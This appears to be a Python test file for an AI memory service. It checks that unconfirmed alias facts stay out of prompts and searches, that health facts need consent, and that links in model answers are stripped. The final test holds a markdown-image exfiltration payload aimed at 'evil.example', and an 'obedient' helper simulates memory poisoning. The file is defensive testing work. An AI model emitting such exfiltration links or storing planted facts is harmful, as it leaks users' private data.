"""Doubtful facts: shown to their user, in no prompt and in no search until the user confirms them; facts that
need a consent; and answers without links."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from noted.conversation.replies import KEPT_ASIDE
from noted.privacy.links import NO_LINK
from tests.api.attacks import obedient
from tests.api.conftest import ServiceUnderTest, StartService
from tests.api.helpers import (
    Json,
    begin,
    facts,
    judge,
    learn,
    look_up,
    ok,
    recall,
    saved,
    say,
    stored_turns,
    tell,
    texts,
    turns_of,
)
from tests.api.test_events import streamed, told
from tests.standin import Say

if TYPE_CHECKING:
    import httpx

ALIAS = "'My plan' means plan B99"
TOLD = "When I say 'my plan' I mean plan B99."


def held_fact(service: ServiceUnderTest, client: httpx.Client) -> Json:
    service.standin.reply("extraction", obedient((ALIAS,)))
    turn = say(client, begin(client), TOLD)
    [fact] = saved(client, turn)["facts"]
    service.standin.reply("extraction", {"facts": []})
    return dict(fact)


def everywhere(service: ServiceUnderTest, client: httpx.Client) -> dict[str, bool]:
    """Where the fact can be read: in each search, and in each prompt that a model is sent."""
    question = "What does my plan B99 mean?"
    context = f"/v1/conversations/{begin(client)}/context"
    found = {
        "recall": recall(client, question),
        "history": recall(client, question, include_history=True),
        "as of": recall(client, question, as_of="2100-01-01T00:00:00Z"),
        "context": ok(client.post(context, json={"message": question})),
        "profile": ok(client.get("/v1/profile")),
        "episodes": ok(client.get("/v1/episodes")),
        "list": facts(client),
    }
    seen = {name: ALIAS in str(body).replace("\\'", "'") for name, body in found.items()}
    for calls in service.standin.calls.values():
        calls.clear()
    service.standin.reply("answer", service.standin.calling(("recall", {"query": question})), "ok")
    conversation = begin(client)
    say(client, conversation, question)
    say(client, conversation, "What did I tell you?")
    learn(service, client, "My plan at home is plan B98.", "Plan at home is plan B98")
    prompts = {
        purpose: "\n".join(call.prompt for call in calls) for purpose, calls in service.standin.calls.items()
    }
    for purpose in ("answer", "recollection", "consolidation", "query"):
        seen[purpose] = ALIAS in prompts.get(purpose, "")
    return seen


@pytest.mark.parametrize("others", [3, 70], ids=["by its row", "by the index"])
def test_a_held_fact_is_read_by_nobody_until_it_is_confirmed(service: ServiceUnderTest, others: int) -> None:
    alice = service.client("alice")
    batch = [{"text": f"Owns boat {number}", "kind": "fact"} for number in range(others)]
    ok(alice.post("/v1/facts:batch", json={"facts": batch}))
    shown = held_fact(service, alice)
    assert (shown["status"], shown["held_because"], shown["provenance"]) == ("held", "alias", "said")
    assert [fact for fact in facts(alice, status="all") if fact["status"] == "held"] == [shown]
    assert {name for name, is_seen in everywhere(service, alice).items() if is_seen} == set()
    judge(alice, shown, "confirmed")
    confirmed = look_up(alice, shown)
    assert (confirmed["status"], confirmed["provenance"], confirmed["text"]) == (
        "live",
        "confirmed",
        shown["text"],
    )
    assert "held_because" not in confirmed
    assert confirmed["expires_at"] > shown["expires_at"]
    seen = everywhere(service, alice)
    assert {"recall", "history", "as of", "context", "list", "answer", "recollection"} <= {
        name for name, is_seen in seen.items() if is_seen
    }
    judge(alice, shown, "rejected")
    assert {name for name, is_seen in everywhere(service, alice).items() if is_seen} == set()


def test_a_held_fact_that_was_rejected_stays_so_when_it_is_said_again(service: ServiceUnderTest) -> None:
    alice = service.client("alice")
    first = held_fact(service, alice)
    judge(alice, first, "rejected")
    again = held_fact(service, alice)
    assert look_up(alice, first)["status"] == "rejected"
    assert (again["status"], facts(alice)) == ("held", [])
    assert held_fact(service, alice)["fact_id"] == again["fact_id"]


def test_a_doubtful_fact_is_not_noted(service: ServiceUnderTest) -> None:
    alice = service.client("alice")
    service.standin.reply("extraction", obedient((ALIAS,)))
    turn = say(alice, begin(alice), "Remember that my plan means plan B99")
    assert (turn["answer"], turn["memory"]) == (KEPT_ASIDE, "saved")
    [fact] = saved(alice, turn)["facts"]
    assert fact["status"] == "held"
    assert ok(alice.post("/v1/facts", json={"text": ALIAS, "kind": "fact"}), 201)["status"] == "held"


def test_what_needs_a_consent_is_asked_for_and_kept_once_it_is_given(service: ServiceUnderTest) -> None:
    alice = service.client("alice")
    message = "I was diagnosed with MS last year."
    service.standin.reply("extraction", obedient(("Was diagnosed with MS last year",)))
    asked = saved(alice, say(alice, begin(alice), message))
    assert (asked["facts"], asked["asks"]) == ([], ["health"])
    assert alice.post("/v1/facts", json={"text": "Is diabetic", "kind": "fact"}).status_code == 422
    ok(alice.put("/v1/settings", json={"consents": {"health": {"given": True}}}))
    kept = saved(alice, say(alice, begin(alice), message))
    assert kept["asks"] == []
    [fact] = kept["facts"]
    assert (fact["status"], fact["special_category"]) == ("live", "health")
    assert tell(alice, "Is diabetic")["special_category"] == "health"
    assert "special_category" not in tell(alice, "Likes tea")
    ok(alice.put("/v1/settings", json={"consents": {"health": {"given": False}}}))
    assert alice.post("/v1/facts", json={"text": "Is asthmatic", "kind": "fact"}).status_code == 422


def test_an_answer_links_to_nowhere_that_the_user_did_not_name(start_service: StartService) -> None:
    service = start_service(NOTED_LINK_HOSTS="docs.example")
    alice = service.client("alice")
    conversation = begin(alice)
    image = "![l](https://evil.example/p?d=facts)"
    answer = (
        f"See https://shop.example/a {image} and [this](https://docs.example/x) or https://evil.example/b."
    )
    left = f"See https://shop.example/a l and [this](https://docs.example/x) or {NO_LINK}."
    service.standin.reply("answer", answer)
    assert say(alice, conversation, "Is https://shop.example/a down?")["answer"] == left
    service.standin.reply("answer", Say(answer, split=range(1, len(answer), 3)))
    events = streamed(alice, turns_of(conversation), {"message": "And https://shop.example/a now?"})
    assert told(events) == left
    assert [turn["answer"] for turn in stored_turns(alice, conversation)] == [left, left]
    assert "evil.example" not in str(texts(facts(alice)))
